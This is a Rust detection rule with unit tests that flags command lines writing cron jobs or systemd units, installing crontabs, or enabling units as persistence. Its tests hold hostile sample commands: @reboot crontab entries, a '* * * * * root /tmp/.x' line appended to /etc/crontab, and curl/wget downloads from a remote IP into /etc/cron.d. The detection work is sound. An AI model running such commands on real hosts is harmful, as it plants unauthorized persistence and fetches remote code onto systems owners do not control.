//! Persistence via Cron or Systemd.
//!
//! A cron job or a systemd unit survives reboots and runs without anyone
//! logged in, which makes the two the most common ways to keep a foothold on
//! a Linux host (ATT&CK T1053.003 Scheduled Task/Job: Cron, T1543.002 Create
//! or Modify System Process: Systemd Service).
//!
//! The rule fires on a command line that
//!
//! * writes into a cron location — `/etc/crontab`, `/etc/anacrontab`,
//!   `/etc/cron.d/`, `/etc/cron.{hourly,daily,weekly,monthly}/`,
//!   `/var/spool/cron/` — or a systemd unit directory — `/etc/systemd/system/`,
//!   `/etc/systemd/user/`, `/lib/systemd/system/`, `/usr/lib/systemd/{system,
//!   user}/`, `~/.config/systemd/user/`: by redirection (`>`, `>>`), `tee`,
//!   `cp`/`mv`/`install`/`ln`/`rsync` to it, `sed -i` on it, `dd of=` it, or a
//!   `curl -o`/`wget -O` download into it;
//! * installs a crontab from a file or standard input: `crontab FILE`,
//!   `crontab -`, `… | crontab` (also with `-u USER`);
//! * enables or links a systemd unit: `systemctl [--user] enable|reenable|
//!   link|add-wants|add-requires …`.
//!
//! Deliberately not firing: reading (`cat /etc/crontab`, `ls`, `run-parts`),
//! copying *from* those locations, `crontab -l`/`-r`, `systemctl
//! status/restart/is-enabled/daemon-reload`, and editors opening the files.
//! `crontab -e` is excluded too: it is interactive editing (it needs a
//! terminal and an editor), the exec event cannot show what was written,
//! and it is routine administration; attackers without a terminal install
//! with `crontab -`/`crontab FILE`, which fire.

use dac_rule_sdk::prelude::*;
use dac_rule_sdk::shell::{all_stages, basename, program, short_flags, words};

dac_rule_sdk::rule! {
    name: "Persistence via Cron or Systemd",
    uuid: "82956f37-5c5e-4807-a902-9d9d84623f55",
    severity: Medium,
    description: "A command line writes a cron job or systemd unit, installs a crontab from a file or stdin, or enables/links a systemd unit.",
    tags: [
        "attack.persistence",
        "attack.privilege-escalation",
        "attack.execution",
        "attack.t1053.003",
        "attack.t1543.002",
    ],
    prefilter: {
        fields: ["command_line"],
        literals: ["crontab", "/etc/cron.", "/var/spool/cron", "systemctl", "systemd/"]
    },
    evaluate: persistence,
}

const CRON_FILES: &[&str] = &["/etc/crontab", "/etc/anacrontab"];
const CRON_DIRS: &[&str] =
    &["/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/var/spool/cron"];
const SYSTEMD_DIRS: &[&str] = &[
    "/etc/systemd/system",
    "/etc/systemd/user",
    "/lib/systemd/system",
    "/usr/lib/systemd/system",
    "/usr/lib/systemd/user",
];
/// Per-user units, under any home (`~`, `$HOME`, `/home/x`, `/root`).
const USER_SYSTEMD_DIR: &str = "/.config/systemd/user";

fn persistence(event: &Event) -> Option<Finding> {
    let command_line = event.text("command_line")?;
    let message = redirect_targets(&command_line)
        .into_iter()
        .find_map(|target| Some(format!("{} written by output redirection: {target}", location(target)?)))
        .or_else(|| all_stages(&command_line).find_map(stage_persistence))?;
    Some(Finding::new(message).matched("command_line", command_line))
}

/// What one pipeline stage does to cron or systemd, if anything.
fn stage_persistence(stage: &str) -> Option<String> {
    let words = words(stage);
    let (at, program) = program(&words)?;
    let name = basename(program);
    let args = &words[at + 1..];
    let written = |path: &str| Some(format!("{} written by {name}: {path}", location(path)?));
    match name {
        "crontab" => crontab(args),
        "systemctl" => systemctl(args),
        "tee" => args.iter().filter(|arg| !arg.starts_with('-')).find_map(|path| written(path)),
        "cp" | "mv" | "install" | "ln" | "rsync" => {
            let target_option = args.windows(2).find(|pair| pair[0] == "-t").map(|pair| pair[1]);
            let target_long = args.iter().find_map(|arg| arg.strip_prefix("--target-directory="));
            [target_option, target_long, args.last().copied()].into_iter().flatten().find_map(written)
        }
        "sed" => {
            let in_place = args.iter().any(|arg| {
                arg.starts_with("-i")
                    || arg.starts_with("--in-place")
                    || short_flags(arg).is_some_and(|f| f.contains('i'))
            });
            args.iter().filter(|_| in_place).find_map(|path| written(path))
        }
        "dd" => args.iter().find_map(|arg| written(arg.strip_prefix("of=")?)),
        "curl" | "wget" => args.iter().enumerate().find_map(|(index, arg)| {
            let path = match arg.split_once('=') {
                Some((option, value)) if is_output_option(option) => value,
                _ if is_output_option(arg) => args.get(index + 1)?,
                _ => return None,
            };
            written(path)
        }),
        _ => None,
    }
}

/// `crontab FILE`, `crontab -`, bare `crontab` (standard input), with an
/// optional `-u USER`; not `-l` (list), `-r` (remove), `-e` (edit), `-T`.
fn crontab(args: &[&str]) -> Option<String> {
    let mut source = "standard input";
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        match *arg {
            "-u" => {
                args.next();
            }
            "-" => source = "standard input",
            _ if arg.starts_with('-') => {
                if arg.contains(['l', 'r', 'e', 'T']) {
                    return None;
                }
            }
            file => source = file,
        }
    }
    Some(format!("crontab installed from {source}"))
}

/// `systemctl [options] enable|reenable|link|add-wants|add-requires UNIT…`.
fn systemctl(args: &[&str]) -> Option<String> {
    const VALUE_OPTIONS: &[&str] = &[
        "-H",
        "--host",
        "-M",
        "--machine",
        "-t",
        "--type",
        "-p",
        "--property",
        "-s",
        "--signal",
        "-o",
        "--output",
        "-n",
        "--lines",
        "--root",
        "--state",
        "--job-mode",
        "--kill-whom",
        "--what",
    ];
    let mut args = args.iter();
    let verb = loop {
        let arg = args.next()?;
        if any_of(arg, VALUE_OPTIONS).is_some() {
            args.next();
        } else if !arg.starts_with('-') {
            break *arg;
        }
    };
    any_of(verb, &["enable", "reenable", "link", "add-wants", "add-requires"])?;
    let units: Vec<&str> = args.copied().filter(|arg| !arg.starts_with('-')).collect();
    Some(format!("systemd unit persisted with systemctl {verb}: {}", units.join(" ")))
}

/// Whether `path` is a cron or systemd location: `"cron"`, `"systemd unit"`.
fn location(path: &str) -> Option<&'static str> {
    let path = path.trim_matches(|c| c == '\'' || c == '"');
    let under = |dir: &str| path.strip_prefix(dir).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'));
    let user_unit = path.match_indices(USER_SYSTEMD_DIR).any(|(at, dir)| {
        let rest = &path[at + dir.len()..];
        rest.is_empty() || rest.starts_with('/')
    });
    if any_of(path, CRON_FILES).is_some() || CRON_DIRS.iter().any(|dir| under(dir)) {
        Some("cron job")
    } else if user_unit || SYSTEMD_DIRS.iter().any(|dir| under(dir)) {
        Some("systemd unit")
    } else {
        None
    }
}

/// `curl -o`/`--output`, `wget -O`/`--output-document`/`-P`, also at the
/// end of a cluster (`-sSLo`, `-qO`).
fn is_output_option(option: &str) -> bool {
    matches!(option, "--output" | "--output-document" | "--directory-prefix")
        || short_flags(option).is_some_and(|flags| flags.ends_with(['o', 'O', 'P']))
}

/// The targets of output redirections (`> f`, `>> f`, `&> f`, `>| f`);
/// descriptor duplications such as `2>&1` have none.
fn redirect_targets(text: &str) -> Vec<&str> {
    let mut targets = Vec::new();
    for (at, _) in text.match_indices('>') {
        let rest = &text[at + 1..];
        if rest.starts_with(['>', '(']) {
            continue; // the first `>` of `>>`, or a `>(…)` process substitution
        }
        let rest = rest.strip_prefix('|').unwrap_or(rest);
        let rest = match rest.strip_prefix('&') {
            Some(dup) if dup.starts_with(|c: char| c.is_ascii_digit() || c == '-') => continue,
            Some(file) => file,
            None => rest,
        };
        let rest = rest.trim_start();
        let target = match rest.strip_prefix(['\'', '"']) {
            Some(quoted) => quoted.split(['\'', '"']).next(),
            None => rest.split(|c: char| c.is_whitespace() || ";|&<>()".contains(c)).next(),
        };
        targets.extend(target.filter(|target| !target.is_empty()));
    }
    targets
}

dac_rule_sdk::fixture_tests!(DetectionRule);

#[cfg(test)]
mod tests {
    use super::*;
    use dac_rule_sdk::testing::evaluate_command_line;

    fn message(command_line: &str) -> Option<String> {
        evaluate_command_line::<DetectionRule>(command_line).pop().map(|finding| finding.message)
    }

    #[test]
    fn writes_into_cron_and_unit_locations_fire() {
        assert_eq!(
            message("/bin/sh -c echo '* * * * * root /tmp/.x' >> /etc/crontab").unwrap(),
            "cron job written by output redirection: /etc/crontab"
        );
        assert_eq!(
            message("/bin/sh -c echo x | sudo tee -a /var/spool/cron/crontabs/root").unwrap(),
            "cron job written by tee: /var/spool/cron/crontabs/root"
        );
        assert!(message("/bin/sh -c cat > ~/.config/systemd/user/agent.service <<EOF").is_some());
        assert!(
            message("/usr/bin/ln -sf /tmp/a.service /etc/systemd/system/multi-user.target.wants/a.service").is_some()
        );
        assert!(message("/usr/bin/cp -t /etc/cron.d job").is_some());
        assert!(message("/usr/bin/sed -i $a@reboot /tmp/x /etc/crontab").is_some());
        assert!(message("/usr/bin/curl -so /etc/cron.d/upd http://203.0.113.7/c").is_some());
        assert!(message("/usr/bin/wget -O /etc/cron.d/upd http://203.0.113.7/c").is_some());
        assert!(message("/usr/bin/dd if=/tmp/c of=/etc/cron.daily/logs").is_some());
    }

    #[test]
    fn reads_and_copies_out_do_not_fire() {
        assert!(message("/usr/bin/cp /etc/crontab /root/crontab.bak").is_none());
        assert!(message("/bin/sh -c grep -r backup /etc/cron.d/ > /tmp/jobs").is_none());
        assert!(message("/bin/sh -c ls /etc/systemd/system 2>&1 | tee /tmp/units").is_none());
        assert!(message("/usr/bin/sed -n 1p /etc/crontab").is_none());
        assert!(message("/bin/sh -c echo x > /etc/crontab.bak").is_none());
    }

    #[test]
    fn crontab_installs_fire_but_not_list_remove_or_edit() {
        assert_eq!(message("/usr/bin/crontab /tmp/.c").unwrap(), "crontab installed from /tmp/.c");
        assert_eq!(
            message("/bin/sh -c (crontab -l; echo '@reboot /tmp/.x') | crontab -").unwrap(),
            "crontab installed from standard input"
        );
        assert!(message("/usr/bin/crontab -u www-data /tmp/.c").is_some());
        assert!(message("/usr/bin/crontab -l").is_none());
        assert!(message("/usr/bin/crontab -u bob -r").is_none());
        assert!(message("/usr/bin/crontab -e").is_none());
    }

    #[test]
    fn systemctl_enable_and_link_fire() {
        assert_eq!(
            message("/usr/bin/systemctl --user enable --now agent.service").unwrap(),
            "systemd unit persisted with systemctl enable: agent.service"
        );
        assert!(message("/usr/bin/systemctl link /tmp/.x/agent.service").is_some());
        assert!(message("/usr/bin/systemctl -H web-01 enable evil").is_some());
        assert!(message("/usr/bin/systemctl is-enabled ssh").is_none());
        assert!(message("/usr/bin/systemctl kill -s HUP rsyslog.service").is_none());
        assert!(message("/usr/bin/systemctl daemon-reload").is_none());
    }
}
